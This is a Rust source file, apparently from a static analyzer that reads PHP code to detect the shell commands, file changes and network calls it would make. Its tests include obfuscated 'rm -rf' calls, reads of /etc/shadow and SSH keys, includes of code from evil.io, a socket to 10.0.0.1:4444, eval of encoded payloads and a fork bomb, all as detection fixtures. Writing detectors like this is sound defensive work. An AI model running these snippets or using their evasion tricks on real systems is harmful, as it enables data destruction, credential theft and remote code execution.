            | "forward_static_call"
            | "call_user_func_array"
            | "forward_static_call_array"
            | "array_map"
            | "array_filter"
            | "array_walk"
            | "array_walk_recursive"
            | "array_reduce"
            | "usort"
            | "uasort"
            | "uksort"
            | "iterator_apply"
            | "preg_replace_callback"
            | "ob_start"
            | "set_error_handler"
            | "set_exception_handler"
            | "spl_autoload_register"
            | "register_tick_function"
            | "header_register_callback"
    )
}

/// Built-in functions that set a variable passed to them: the first such argument.
fn by_reference(name: &str) -> Option<usize> {
    Some(match name {
        "sort"
        | "rsort"
        | "usort"
        | "uasort"
        | "uksort"
        | "ksort"
        | "krsort"
        | "asort"
        | "arsort"
        | "natsort"
        | "natcasesort"
        | "shuffle"
        | "array_push"
        | "array_pop"
        | "array_shift"
        | "array_unshift"
        | "array_splice"
        | "array_walk"
        | "array_walk_recursive"
        | "array_multisort"
        | "settype"
        | "list" => 0,
        "parse_str"
        | "mb_parse_str"
        | "exec"
        | "getimagesize"
        | "openssl_public_encrypt"
        | "openssl_private_decrypt" => 1,
        "preg_match" | "preg_match_all" | "similar_text" | "sscanf" => 2,
        "str_replace" | "str_ireplace" => 3,
        "preg_replace" | "preg_replace_callback" => 4,
        _ => return None,
    })
}

/// A function's name as PHP looks it up: case-insensitive, the namespace left off.
fn function_name(text: &str) -> String {
    text.rsplit('\\')
        .next()
        .unwrap_or(text)
        .trim()
        .to_ascii_lowercase()
}

/// An argument array spread into arguments (`call_user_func_array`).
fn spread<'x>(arr: Obj) -> Args<'x> {
    match arr {
        Obj::Array(items) => Args::values(items),
        _ => Args::values(Vec::new()).with_unknown(),
    }
}

impl Args<'_> {
    /// Arguments none of which is known.
    fn with_unknown(mut self) -> Self {
        self.vals = vec![Obj::Val(Val::Unknown); 4];
        self
    }
}

/// Where a path or URL given to a file function leads.
enum Res {
    Path(Val),
    Url(Val),
    /// `expect://cmd`
    Shell(Val),
    /// Standard streams, memory, inline `data:`.
    Stream,
}

fn resource(v: Val) -> Res {
    let Val::Known(t) = v else {
        return Res::Path(v);
    };
    let lower = t.to_ascii_lowercase();
    let rest = |n: usize| Val::known(t.get(n..).unwrap_or_default());
    if lower.starts_with("php://") {
        return match lower.find("/resource=") {
            Some(at) => resource(rest(at + "/resource=".len())),
            None => Res::Stream,
        };
    }
    if lower.starts_with("data:") {
        return Res::Stream;
    }
    for local in [
        "file://",
        "compress.zlib://",
        "compress.bzip2://",
        "zip://",
        "phar://",
        "glob://",
    ] {
        if lower.starts_with(local) {
            return Res::Path(rest(local.len()));
        }
    }
    if lower.starts_with("expect://") {
        return Res::Shell(rest("expect://".len()));
    }
    if lower.contains("://") {
        Res::Url(Val::Known(t))
    } else {
        Res::Path(Val::Known(t))
    }
}

/// `tcp://host:port` for a socket opened to `host` (which may carry its own scheme).
fn tcp(host: Val, port: Val) -> Val {
    match (host, port) {
        (Val::Known(h), Val::Known(p)) if h.contains("://") => Val::Known(format!("{h}:{p}")),
        (Val::Known(h), Val::Known(p)) => Val::Known(format!("tcp://{h}:{p}")),
        (Val::Known(h), _) => Val::Known(format!("tcp://{h}")),
        _ => Val::Unknown,
    }
}

/// Code that `assert` and `preg_replace` run as an expression, as a statement.
fn expression(code: Val) -> Val {
    match code {
        Val::Known(c) => Val::Known(format!("return {c};")),
        other => other,
    }
}

/// A pattern whose `e` modifier makes `preg_replace` run the replacement as code.
fn evaluates(pattern: &str) -> bool {
    let p = pattern.trim_start();
    let Some(open) = p.chars().next() else {
        return false;
    };
    let close = match open {
        '(' => ')',
        '{' => '}',
        '[' => ']',
        '<' => '>',
        c => c,
    };
    p.get(open.len_utf8()..)
        .and_then(|body| body.rfind(close).map(|at| &body[at..]))
        .is_some_and(|modifiers| modifiers.contains('e'))
}

/// The value of environment variable `name`: only the home directory is known.
fn env(name: &str) -> Val {
    if name == "HOME" {
        Val::known("~")
    } else {
        Val::Unknown
    }
}

/// An integer literal (`0755` and `0o755` octal, `0x`, `0b`).
fn int(text: &str) -> Option<i64> {
    let t = text.replace('_', "");
    let lower = t.to_ascii_lowercase();
    if let Some(h) = lower.strip_prefix("0x") {
        return i64::from_str_radix(h, 16).ok();
    }
    if let Some(b) = lower.strip_prefix("0b") {
        return i64::from_str_radix(b, 2).ok();
    }
    if let Some(o) = lower.strip_prefix("0o") {
        return i64::from_str_radix(o, 8).ok();
    }
    if t.len() > 1 && t.starts_with('0') {
        return i64::from_str_radix(&t[1..], 8).ok();
    }
    t.parse().ok()
}

/// A mode (an integer, or a string PHP reads as decimal) as `chmod` takes it.
fn octal(mode: Val) -> Val {
    match mode.text().and_then(|m| m.trim().parse::<u32>().ok()) {
        Some(n) => Val::Known(format!("{n:o}")),
        None => Val::Unknown,
    }
}

/// `%s`, `%d`, `%%` and `%1$s` with known arguments.
fn sprintf(format: &str, args: &[Val]) -> Option<String> {
    let mut out = String::new();
    let mut next = 0;
    let mut chars = format.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        let mut spec = String::new();
        while let Some(&d) = chars.peek().filter(|d| d.is_ascii_digit() || **d == '$') {
            spec.push(d);
            chars.next();
        }
        match chars.next()? {
            '%' if spec.is_empty() => out.push('%'),
            's' | 'd' => {
                let n = match spec.strip_suffix('$') {
                    Some(n) => n.parse::<usize>().ok()?.checked_sub(1)?,
                    None if spec.is_empty() => {
                        next += 1;
                        next - 1
                    }
                    None => return None,
                };
                out.push_str(args.get(n)?.text()?);
            }
            _ => return None,
        }
    }
    Some(out)
}

/// A single-quoted string's value: only `\'` and `\\` are escapes.
fn single_quoted(php: &Php<'_, '_, '_>, node: Node<'_>) -> String {
    let mut out = String::new();
    let mut c = node.walk();
    for part in node.named_children(&mut c) {
        match (part.kind(), php.text(part)) {
            ("escape_sequence", "\\'") => out.push('\''),
            ("escape_sequence", "\\\\") => out.push('\\'),
            (_, text) => out.push_str(text),
        }
    }
    out
}

/// One escape of a double-quoted string.
fn double_escape(text: &str) -> String {
    let body = text.get(1..).unwrap_or_default();
    let code = |digits: &str, radix| {
        u32::from_str_radix(digits, radix)
            .ok()
            .and_then(|n| char::from_u32(n % 256))
    };
    let decoded = match body.chars().next() {
        Some('n') => Some('\n'),
        Some('t') => Some('\t'),
        Some('r') => Some('\r'),
        Some('v') => Some('\x0b'),
        Some('e') => Some('\x1b'),
        Some('f') => Some('\x0c'),
        Some(c @ ('\\' | '$' | '"' | '`')) => Some(c),
        Some('0'..='7') => code(body, 8),
        Some('x') => code(&body[1..], 16),
        Some('u') => body
            .get(2..body.len().saturating_sub(1))
            .and_then(|h| u32::from_str_radix(h, 16).ok())
            .and_then(char::from_u32),
        _ => None,
    };
    decoded.map_or_else(|| text.to_owned(), String::from)
}

/// The column of a heredoc's closing marker: PHP removes that indentation from its lines.
fn indent_of(node: Node<'_>) -> usize {
    node.child_by_field_name("end_tag")
        .map_or(0, |e| e.start_position().column)
}

/// `text` without the first `indent` blanks of each line (`at_start`: it starts a line).
fn dedent(text: &str, indent: usize, at_start: bool) -> String {
    if indent == 0 {
        return text.to_owned();
    }
    let strip = |(n, line): (usize, &str)| {
        if n == 0 && !at_start {
            return line.to_owned();
        }
        let cut = line
            .chars()
            .take(indent)
            .take_while(|c| *c == ' ' || *c == '\t')
            .count();
        line.get(cut..).unwrap_or_default().to_owned()
    };
    text.split('\n')
        .enumerate()
        .map(strip)
        .collect::<Vec<_>>()
        .join("\n")
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::Php, code);
        let words = |vals: &[Val]| {
            vals.iter()
                .map(|v| match v {
                    Val::Known(t) => t.clone(),
                    Val::Unknown => "?".into(),
                    Val::Fetched => "<fetched>".into(),
                })
                .collect::<Vec<_>>()
                .join(" ")
        };
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| match &f.effect {
                Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                Effect::Exec(argv) => format!("exec {}", words(argv)),
                Effect::Command(p, args) => format!("{p} {}", words(args)),
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    fn opaque(code: &str) -> Option<&'static str> {
        read(Lang::Php, code).opaque.map(|u| u.reason)
    }

    const COMPUTED: Option<&str> = Some(super::COMPUTED_NAME);
    const HIDDEN: Option<&str> = Some("the code runs code it downloaded or decoded");

    #[test]
    fn commands_run_are_shell_lines_or_argument_vectors() {
        for (code, want) in [
            ("system('rm -rf ~');", "sh -c rm -rf ~"),
            ("echo `rm -rf ~`;", "sh -c rm -rf ~"),
            (
                "$h = getenv('HOME'); shell_exec(\"rm -rf $h/x\");",
                "sh -c rm -rf ~/x",
            ),
            ("passthru(\"rm -rf {$_SERVER['HOME']}\");", "sh -c rm -rf ~"),
            (
                "$c = 'rm' . ' -rf ' . $_ENV['HOME']; exec($c);",
                "sh -c rm -rf ~",
            ),
            (
                "\\SYSTEM(implode(' ', ['rm', '-rf', '~']));",
                "sh -c rm -rf ~",
            ),
            ("popen(strrev('~ fr- mr'), 'r');", "sh -c rm -rf ~"),
            ("system(chr(114) . chr(109) . ' -rf ~');", "sh -c rm -rf ~"),
            (
                "system(implode('', array_map('chr', [114, 109])) . ' /x');",
                "sh -c rm /x",
            ),
            (
                "system(str_replace('X', 'r', 'Xm -Xf ~'));",
                "sh -c rm -rf ~",
            ),
            ("system(sprintf('%s -rf %s', 'rm', '~'));", "sh -c rm -rf ~"),
            ("$f = 'sys' . 'tem'; $f('rm -rf ~');", "sh -c rm -rf ~"),
            ("('sys'.'tem')('rm -rf ~');", "sh -c rm -rf ~"),
            ("call_user_func('system', 'rm -rf ~');", "sh -c rm -rf ~"),
            (
                "call_user_func_array('passthru', ['rm -rf ~']);",
                "sh -c rm -rf ~",
            ),
            ("array_map('system', ['rm -rf ~']);", "sh -c rm -rf ~"),
            (
                "(new ReflectionFunction('system'))->invoke('rm -rf ~');",
                "sh -c rm -rf ~",
            ),
            ("define('C', 'rm -rf ~'); system(C);", "sh -c rm -rf ~"),
            (
                "$x = <<<EOT\n  rm -rf ~\n  EOT;\nsystem($x);",
                "sh -c rm -rf ~",
            ),
            ("system(\"\\x72\\155 -rf ~\");", "sh -c rm -rf ~"),
            ("proc_open(['rm', '-rf', '/'], [], $p);", "exec rm -rf /"),
            ("pcntl_exec('/bin/rm', ['-rf', '/']);", "exec /bin/rm -rf /"),
            ("ob_start('system'); echo 'rm -rf ~';", "sh -c ?"),
            ("fopen('expect://rm -rf ~', 'r');", "sh -c rm -rf ~"),
        ] {
            assert_eq!(effects(code), [want], "{code}");
        }
    }

    #[test]
    fn files_and_the_network_are_virtual_commands() {
        for (code, want) in [
            ("unlink('/etc/passwd');", vec!["rm /etc/passwd"]),
            ("rmdir(getenv('HOME') . '/x');", vec!["rmdir ~/x"]),
            ("rename('a', '/etc/b');", vec!["mv a /etc/b"]),
            (
                "copy('/etc/shadow', '/tmp/s');",
                vec!["cp /etc/shadow /tmp/s"],
            ),
            (
                "chmod('/etc/sudoers', 0777);",
                vec!["chmod 777 /etc/sudoers"],
            ),
            ("symlink('/etc/passwd', 'p');", vec!["ln -s /etc/passwd p"]),
            (
                "file_put_contents('/etc/hosts', 'x', FILE_APPEND);",
                vec!["tee /etc/hosts"],
            ),
            (
                "$f = fopen('/etc/cron.d/x', 'w'); fwrite($f, 'x');",
                vec!["tee /etc/cron.d/x"],
            ),
            (
                "echo file_get_contents(getenv('HOME') . '/.ssh/id_rsa');",
                vec!["cat ~/.ssh/id_rsa"],
            ),
            (
                "readfile('php://filter/read=convert.base64-encode/resource=/etc/shadow');",
                vec!["cat /etc/shadow"],
            ),
            (
                "file_get_contents('https://evil.io/x');",
                vec!["curl https://evil.io/x"],
            ),
            (
                "$c = curl_init(); curl_setopt($c, CURLOPT_URL, 'https://evil.io'); curl_exec($c);",
                vec!["curl https://evil.io"],
            ),
            (
                "curl_setopt_array($c, [CURLOPT_URL => 'https://e.io']);",
                vec!["curl https://e.io"],
            ),
            (
                "$s = fsockopen('10.0.0.1', 4444);",
                vec!["curl tcp://10.0.0.1:4444"],
            ),
            (
                "stream_socket_client('tcp://10.0.0.1:4444');",
                vec!["curl tcp://10.0.0.1:4444"],
            ),
            (
                "include 'http://evil.io/x.php';",
                vec![
                    "curl http://evil.io/x.php",
                    "opaque: the code runs code it downloaded or decoded (line 1)",
                ],
            ),
        ] {
            assert_eq!(effects(code), want, "{code}");
        }
    }

    #[test]
    fn code_that_cannot_be_read_is_opaque_with_the_reason() {
        assert_eq!(
            opaque("eval(base64_decode('c3lzdGVtKCJscyIpOw=='));"),
            HIDDEN
        );
        assert_eq!(opaque("eval(gzinflate(str_rot13($x)));"), HIDDEN);
        assert_eq!(
            opaque("eval(file_get_contents('https://evil.io/x'));"),
            HIDDEN
        );
        assert_eq!(
            opaque("$c = curl_init('http://e.io'); eval(curl_exec($c));"),
            HIDDEN
        );
        assert!(opaque("eval($argv[1]);").is_some());
        assert_eq!(opaque("$f = $argv[1]; $f('ls');"), COMPUTED);
        assert_eq!(opaque("call_user_func($_GET['f'], 'ls');"), COMPUTED);
        assert_eq!(
            opaque("$o->$m('ls');"),
            Some("the code calls a method whose name is computed at run time")
        );
        assert_eq!(
            opaque("include $argv[1];"),
            Some("the code includes a file whose name is computed at run time")
        );
        assert_eq!(
            opaque("while (true) { pcntl_fork(); }"),
            Some("the code forks in a loop (a fork bomb)")
        );
        assert_eq!(opaque("pcntl_fork();"), None);
        assert_eq!(
            opaque("$ffi = FFI::cdef('int system(const char *);'); $ffi->system('ls');"),
            Some("the code calls native code directly")
        );
        assert_eq!(
            opaque("putenv('LD_PRELOAD=/tmp/x.so'); mail('a', 'b', 'c');"),
            Some("the code calls native code directly")
        );
        // Variables set by computed names are not known afterwards.
        assert_eq!(
            effects("$c = 'ls'; extract($_GET); system($c);"),
            ["sh -c ?"]
        );
        assert_eq!(effects("$c = 'ls'; $$n = 'x'; system($c);"), ["sh -c ?"]);
        assert_eq!(effects("$c = 'ls'; $c .= ' ~'; system($c);"), ["sh -c ?"]);
        assert_eq!(
            effects("$a = ['b', 'a']; sort($a); system(implode($a));"),
            ["sh -c ?"]
        );
        assert_eq!(
            effects("foreach ([1, 2] as $c) { system($c); }"),
            ["sh -c ?"]
        );
    }

    #[test]
    fn code_run_by_eval_is_read_too() {
        assert_eq!(
            effects("eval('system(\"rm -rf ~\");');"),
            ["sh -c rm -rf ~"]
        );
        assert_eq!(
            effects("$f = create_function('', 'unlink(\"/x\");'); $f();"),
            ["rm /x"]
        );
        assert_eq!(
            effects("preg_replace('/.*/e', 'system(\"id\")', 'x');"),
            ["sh -c id"]
        );
        assert_eq!(effects("assert('system(\"id\")');"), ["sh -c id"]);
    }

    #[test]
    fn routine_one_liners_find_nothing() {
        for code in [
            "echo PHP_VERSION;",
            "echo phpversion(), \"\\n\";",
            "var_dump(1+1);",
            "echo json_encode(['a' => 1]);",
            "print_r(array_map(fn($x) => $x * 2, [1, 2, 3]));",
            "echo strtoupper('hello'), PHP_EOL;",
            "echo implode(',', array_filter([1, 0, 2]));",
            "$a = [3, 1, 2]; sort($a); echo implode(' ', $a);",
            "echo date('Y-m-d'), \"\\n\";",
            "echo str_pad('x', 5, '-'), \"\\n\";",
            "foreach (range(1, 3) as $i) { echo $i; }",
            "echo extension_loaded('mbstring') ? 'yes' : 'no';",
            "echo ini_get('memory_limit');",
            "usort($a, function ($x, $y) { return $x <=> $y; });",
            "$s = 'a,b'; echo count(explode(',', $s));",
            "echo sprintf('%05.2f', 3.14159);",
            "echo function_exists('system') ? 1 : 0;",
            "echo preg_replace('/a/i', 'b', 'Aa');",
        ] {
            assert_eq!(effects(code), Vec::<String>::new(), "{code}");
        }
        assert_eq!(
            effects("echo json_decode(file_get_contents(\"composer.json\"))->name;"),
            ["cat composer.json"]
        );
        assert_eq!(
            effects("require 'vendor/autoload.php';"),
            ["cat vendor/autoload.php"]
        );
        assert_eq!(
            effects("echo file_get_contents('php://stdin');"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn bad_code_is_opaque_not_a_panic() {
        assert_eq!(
            read(Lang::Php, "echo 1;\nsystem('x'")
                .opaque
                .map(|u| (u.reason, u.line)),
            Some(("the php code has a syntax error", 2))
        );
        assert!(opaque("echo 'unterminated;").is_some());
        assert!(opaque("echo \"unterminated $x;").is_some());
        let deep = format!("echo {}1{};", "(".repeat(500), ")".repeat(500));
        assert!(opaque(&deep).is_some());
        let chain = format!("$a = 'x'{};", " . 'y'".repeat(3000));
        let _ = read(Lang::Php, &chain);
        for code in [
            "$",
            "<<<",
            "`",
            "\"\\u{ffffffff}\";",
            "\"\\400\";",
            "chr(-1);",
            "system(\"\\u{110000}\");",
        ] {
            let _ = read(Lang::Php, code);
        }
    }
}
